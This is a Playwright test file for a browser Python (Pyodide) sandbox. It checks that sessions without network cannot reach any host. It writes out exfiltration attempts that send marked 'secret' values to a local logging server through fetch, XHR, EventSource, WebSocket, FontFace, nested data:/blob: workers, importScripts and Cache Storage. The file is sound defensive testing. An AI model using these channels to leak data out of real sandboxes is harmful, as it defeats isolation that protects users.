/**
 * Python without network reaches no host, the app's own included, through any door a worker
 * has. Each test runs the same attack in a session without network, then in one with network
 * (or from the page itself, where Python could not use that door even with network), and
 * watches two places: requests the browser makes to the app's own origin (Playwright's
 * request events, which see the page's, its frames' and their workers' requests) and a
 * logging server of the test on another origin. The attack with network must arrive (so the
 * attack and the watching are real); the one without must not.
 */
import { createServer, type Server } from "node:http";
import type { Page } from "@playwright/test";
import { expect, test } from "./support/test";
import { PACKAGE_BASE } from "./support/package-fixtures";

interface Logger {
  origin: string;
  /** Every URL asked of it, WebSocket handshakes included. */
  hits: string[];
  server: Server;
}

/** A server on another origin that logs every request; under `/pkgs/` it serves the test packages and lock file. */
function startLogger(): Promise<Logger> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.setHeader("Cross-Origin-Resource-Policy", "cross-origin");
    const url = req.url ?? "/";
    if (url.startsWith("/pkgs/")) {
      void fetch(PACKAGE_BASE + url.slice("/pkgs/".length)).then(
        async (response) => {
          res.writeHead(response.status, { "Content-Type": response.headers.get("content-type") ?? "application/octet-stream" });
          res.end(Buffer.from(await response.arrayBuffer()));
        },
        () => res.writeHead(502).end(),
      );
      return;
    }
    res.writeHead(200, { "Content-Type": "text/javascript" });
    res.end("// logged\n");
  });
  server.on("upgrade", (req, socket) => {
    hits.push(req.url ?? "");
    socket.destroy();
  });
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      const port = typeof address === "object" && address ? address.port : 0;
      resolve({ origin: `http://127.0.0.1:${port}`, hits, server });
    }),
  );
}

let logger: Logger;
test.beforeAll(async () => {
  logger = await startLogger();
});
test.afterAll(async () => {
  logger.server.closeAllConnections();
  await new Promise((resolve) => logger.server.close(resolve));
});

/** Every URL of the app's origin that answered the browser, and every URL the logger was asked, from now on. */
function watch(page: Page): () => string[] {
  const appOrigin = new URL(page.url()).origin;
  const seen: string[] = [];
  // A response: the request left the browser and the server answered (one the policy blocks has none).
  page.context().on("response", (response) => {
    if (response.url().startsWith(appOrigin)) seen.push(response.url());
  });
  page.on("websocket", (socket) => seen.push(socket.url()));
  const loggedBefore = logger.hits.length;
  return () => [...seen, ...logger.hits.slice(loggedBefore).map((path) => logger.origin + path)];
}

async function openHarness(page: Page): Promise<void> {
  await page.goto("/harness.html");
  await page.waitForFunction(() => Boolean(window.kiln));
}

interface Config {
  network: boolean;
  lockFileUrl?: string;
  packageBaseUrl?: string;
}

/** Runs `code` in a new session of `config` and returns the value it shows (or its status and error). */
async function runPython(page: Page, config: Config, code: string): Promise<string> {
  return page.evaluate(
    async ({ config, code }) => {
      const session = new window.kiln.PythonSession({ ...window.kiln.defaultConfig, ...config });
      try {
        const result = await session.run(code);
        return result.value?.["text/plain"] ?? `${result.status}: ${JSON.stringify(result.error)}`;
      } finally {
        session.dispose();
      }
    },
    { config, code },
  );
}

/** What every attack starts with: awaiting an attempt, and an attempt inside a worker that Python starts. */
const PRELUDE = `
import asyncio, js, json
from pyodide.ffi import create_proxy, to_js
def obj(d):
    return to_js(d, dict_converter=js.Object.fromEntries)
async def settle(make, seconds=10):
    try:
        value = make()
        if asyncio.iscoroutine(value):
            return await value
        if hasattr(value, "then"):
            await asyncio.wait_for(value, seconds)
        return "reached"
    except asyncio.TimeoutError:
        return "no answer"
    except Exception as error:
        return "refused " + type(error).__name__
async def until_event(target, good, bad, seconds=10):
    done = asyncio.get_event_loop().create_future()
    proxies = []
    for name, verdict in [(name, "reached") for name in good] + [(name, "refused") for name in bad]:
        proxy = create_proxy(lambda event, verdict=verdict: done.done() or done.set_result(verdict))
        proxies.append(proxy)
        target.addEventListener(name, proxy)
    try:
        return await asyncio.wait_for(done, seconds)
    except asyncio.TimeoutError:
        return "no answer"
async def in_worker(body, kind, module):
    """Runs JavaScript \`body\` (an async function's body) in a worker started from a \`kind\` URL (data, blob or an http URL)."""
    source = "(async () => { " + body + " })().then(() => postMessage('reached'), (e) => postMessage('refused ' + e.name));"
    if kind == "data":
        url = "data:text/javascript," + js.encodeURIComponent(source)
    elif kind == "blob":
        url = js.URL.createObjectURL(js.Blob.new(to_js([source]), obj({"type": "text/javascript"})))
    else:
        url = kind
    done = asyncio.get_event_loop().create_future()
    try:
        worker = js.Worker.new(url, obj({"type": "module" if module else "classic"}))
    except Exception as error:
        return "refused " + type(error).__name__
    on_message = create_proxy(lambda event: done.done() or done.set_result(str(event.data)))
    on_error = create_proxy(lambda event: (event.preventDefault(), done.done() or done.set_result("refused error event")))
    worker.addEventListener("message", on_message)
    worker.addEventListener("error", on_error)
    try:
        return await asyncio.wait_for(done, 10)
    except asyncio.TimeoutError:
        return "no answer"
    finally:
        worker.terminate()
`;

/** A URL on the app's origin and one on the logger's, each carrying `mark` (the data an attacker would send). */
function targets(page: Page, mark: string, { app = true, other = true } = {}): string[] {
  return [
    ...(app ? [`${new URL(page.url()).origin}/assets/leak?secret=${mark}-app`] : []),
    ...(other ? [`${logger.origin}/leak?secret=${mark}-other`] : []),
  ];
}

/**
 * The attack (`attack(urls)`, Python that returns its outcomes) run without network, then with
 * network (or, given `fromPage`, the same call made by the page itself); what arrived of each,
 * by target.
 */
async function tryDoor(
  page: Page,
  name: string,
  attack: (urls: string[]) => string,
  where: { app?: boolean; other?: boolean } = {},
  fromPage?: (urls: string[]) => Promise<string>,
): Promise<{ off: string; on: string; arrived: (network: boolean) => string[]; urls: (network: boolean) => string[] }> {
  await openHarness(page);
  const seen = watch(page);
  const mark = (network: boolean) => `${name}-${network ? "on" : "off"}-${Math.random().toString(36).slice(2)}`;
  const marks = { off: mark(false), on: mark(true) };
  const urls = (network: boolean) => targets(page, network ? marks.on : marks.off, where);
  const arrived = (network: boolean) => {
    const all = seen();
    return urls(network).filter((url) => all.some((seenUrl) => seenUrl.includes(new URL(url).searchParams.get("secret")!)));
  };
  // Without network first: an attempt that got through would have arrived before the one after it.
  const off = await runPython(page, { network: false }, PRELUDE + attack(urls(false)));
  const on = fromPage ? await fromPage(urls(true)) : await runPython(page, { network: true }, PRELUDE + attack(urls(true)));
  return { off, on, arrived, urls };
}

/** The attack with network (or from the page) reached every target (it is real, and it is seen); the one without reached none. */
async function expectOnlyWithNetwork(outcome: Awaited<ReturnType<typeof tryDoor>>): Promise<void> {
  await expect.poll(() => outcome.arrived(true), { message: `with network: ${outcome.on}`, timeout: 20_000 }).toEqual(outcome.urls(true));
  expect(outcome.arrived(false), `without network: ${outcome.off}`).toEqual([]);
}

/** The outcomes an attack returns as `json.dumps(…)`, from the text Python shows of that string (no quote or backslash in them). */
function outcomes(shown: string): unknown {
  expect(shown, "the attack ran to its end").toMatch(/^'.*'$/);
  return JSON.parse(shown.slice(1, -1));
}

/** Python's list of outcomes, one per URL. */
const each = (urls: string[], attempt: string) => `
outcomes = []
for url in ${JSON.stringify(urls)}:
    outcomes.append(${attempt})
json.dumps(outcomes)`;

test.describe("Python without network reaches no host", () => {
  test.setTimeout(180_000);

  test("through fetch", async ({ page }) => {
    const outcome = await tryDoor(page, "fetch", (urls) => each(urls, `await settle(lambda: js.fetch(url, obj({"mode": "no-cors"})))`));
    await expectOnlyWithNetwork(outcome);
    expect(outcome.off).not.toContain("reached");
  });

  test("through XMLHttpRequest", async ({ page }) => {
    const outcome = await tryDoor(page, "xhr", (urls) =>
      each(
        urls,
        `await (lambda request: (request.open("GET", url), request.send(), until_event(request, ["load"], ["error"]))[2])(js.XMLHttpRequest.new())`,
      ),
    );
    await expectOnlyWithNetwork(outcome);
  });

  test("through EventSource", async ({ page }) => {
    const outcome = await tryDoor(page, "eventsource", (urls) =>
      each(urls, `await (lambda source: until_event(source, ["open"], ["error"]))(js.EventSource.new(url))`),
    );
    await expectOnlyWithNetwork(outcome);
  });

  test("through WebSocket", async ({ page }) => {
    const outcome = await tryDoor(
      page,
      "websocket",
      (urls) => each(urls.map((url) => url.replace(/^http/, "ws")), `await settle(lambda: until_event(js.WebSocket.new(url), ["open"], ["error", "close"]))`),
      { other: false },
    );
    await expectOnlyWithNetwork(outcome);
  });

  test("through FontFace", async ({ page }) => {
    // The app's policy allows fonts from its own origin only: that is the host to reach.
    const outcome = await tryDoor(page, "fontface", (urls) => each(urls, `await settle(lambda: js.FontFace.new("leak", "url(" + url + ")").load())`), {
      other: false,
    });
    await expectOnlyWithNetwork(outcome);
  });

  test("through a nested data: worker: its fetch, FontFace, import() and importScripts", async ({ page }) => {
    const outcome = await tryDoor(page, "nested", (urls) => {
      const [app, other] = urls;
      const js = (body: string) => JSON.stringify(body);
      return `
outcomes = {
  "module fetch": await in_worker(${js(`await fetch(${JSON.stringify(other)}, {mode: "no-cors"});`)}, "data", True),
  "module import()": await in_worker(${js(`await import(${JSON.stringify(`${app}&via=import`)});`)}, "data", True),
  "module FontFace": await in_worker(${js(`await new FontFace("leak", "url(${app}&via=font)").load();`)}, "data", True),
  "classic importScripts": await in_worker(${js(`importScripts(${JSON.stringify(`${other}&via=importScripts`)});`)}, "data", False),
}
json.dumps(outcomes)`;
    });
    await expectOnlyWithNetwork(outcome);
  });

  test("through a nested blob: worker, module or classic", async ({ page }) => {
    // The app's policy starts no worker from blob: at all: with network, the same code from data: is what arrives.
    const outcome = await tryDoor(page, "blob", (urls) => {
      const [app, other] = urls;
      const body = JSON.stringify(`await fetch(${JSON.stringify(other)}, {mode: 'no-cors'}); await new FontFace('leak', 'url(${app})').load();`);
      return `
outcomes = {
  "blob module": await in_worker(${body}, "blob", True),
  "blob classic": await in_worker(${body}, "blob", False),
  "data module": await in_worker(${body}, "data", True),
}
json.dumps(outcomes)`;
    });
    await expectOnlyWithNetwork(outcome);
    expect(outcomes(outcome.off)).toEqual({
      "blob module": expect.stringMatching(/^refused/),
      "blob classic": expect.stringMatching(/^refused/),
      "data module": expect.stringMatching(/^refused/),
    });
  });

  test("through a worker started from the app's own URL, module or classic", async ({ page }) => {
    // A worker's script must come from its creator's origin: Python's is opaque. The page's own worker is what arrives.
    const outcome = await tryDoor(
      page,
      "urlworker",
      (urls) => `
outcomes = []
for url in ${JSON.stringify(urls)}:
    outcomes.append(await in_worker("", url + "&via=module", True))
    outcomes.append(await in_worker("", url + "&via=classic", False))
json.dumps(outcomes)`,
      { other: false },
      (urls) =>
        page.evaluate(async (urls) => {
          const workers = urls.map((url) => new Worker(url, { type: "module" }));
          await new Promise((resolve) => setTimeout(resolve, 1000));
          for (const worker of workers) worker.terminate();
          return "started";
        }, urls),
    );
    await expectOnlyWithNetwork(outcome);
    expect(outcomes(outcome.off)).toEqual([expect.stringMatching(/^refused/), expect.stringMatching(/^refused/)]);
  });

  test("through Cache Storage", async ({ page }) => {
    // Cache.add fetches its URL: Python's opaque origin has no Cache Storage. The page's own cache is what arrives.
    const outcome = await tryDoor(
      page,
      "caches",
      (urls) => each(urls, `await settle(lambda: js.caches.open("leak").then(lambda cache: cache.add(url)))`),
      {},
      (urls) =>
        page.evaluate(async (urls) => {
          const cache = await caches.open("kiln-network-doors");
          await Promise.all(urls.map((url) => cache.add(url).catch(() => undefined)));
          await caches.delete("kiln-network-doors");
          return "added";
        }, urls),
    );
    await expectOnlyWithNetwork(outcome);
    expect(outcomes(outcome.off)).toEqual([expect.stringMatching(/^refused/), expect.stringMatching(/^refused/)]);
  });

  test("through the page, which fetches only the exact core and package files for it", async ({ page }) => {
    await openHarness(page);
    const seen = watch(page);
    const packages = `${logger.origin}/pkgs/`;
    const config = (network: boolean) => ({ network, lockFileUrl: `${packages}pyodide-lock.json`, packageBaseUrl: packages });
    const token = (network: boolean) => `relay-${network ? "on" : "off"}-${Math.random().toString(36).slice(2)}`;
    const tokens = { off: token(false), on: token(true) };
    // Paths of Python's choosing under Pyodide's folder (the app's) and the package folder (another
    // host), a package file with a query, and a package file the lock file does not list.
    const attack = (mark: string) => `${PRELUDE}
import pyodide_js
import kilntiny
index = pyodide_js._api.config.indexURL
urls = [
    index + "leak-${mark}",
    "${packages}leak-${mark}",
    "${packages}kilntiny-1.0.0-py3-none-any.whl?${mark}",
    "${packages}${mark}-1.0.0-py3-none-any.whl",
]
json.dumps([kilntiny.GREETING] + [await settle(lambda: js.fetch(url)) for url in urls])`;
    const off = await runPython(page, config(false), attack(tokens.off));
    const on = await runPython(page, config(true), attack(tokens.on));
    // With network the page serves its folders (and Python could reach them itself): the paths arrive.
    const arrived = (mark: string) => seen().filter((url) => url.includes(mark));
    const appOrigin = new URL(page.url()).origin;
    await expect
      .poll(() => arrived(tokens.on).sort(), { message: on, timeout: 20_000 })
      .toEqual([`${appOrigin}/pyodide/leak-${tokens.on}`, `${packages}${tokens.on}-1.0.0-py3-none-any.whl`, `${packages}leak-${tokens.on}`].sort());
    // Without network the package still loads, through the page, and nothing else does.
    expect(outcomes(off)).toEqual(["hello from a tiny wheel", "refused JsException", "refused JsException", "refused JsException", "refused JsException"]);
    expect(arrived(tokens.off)).toEqual([]);
    const askedOfPackageHost = new Set(logger.hits.filter((path) => path.startsWith("/pkgs/") && !path.includes(tokens.on)));
    expect([...askedOfPackageHost].sort()).toEqual([
      "/pkgs/kilntiny-1.0.0-py3-none-any.whl",
      "/pkgs/kilntinydep-1.0.0-py3-none-any.whl",
      "/pkgs/pyodide-lock.json",
    ]);
  });
});
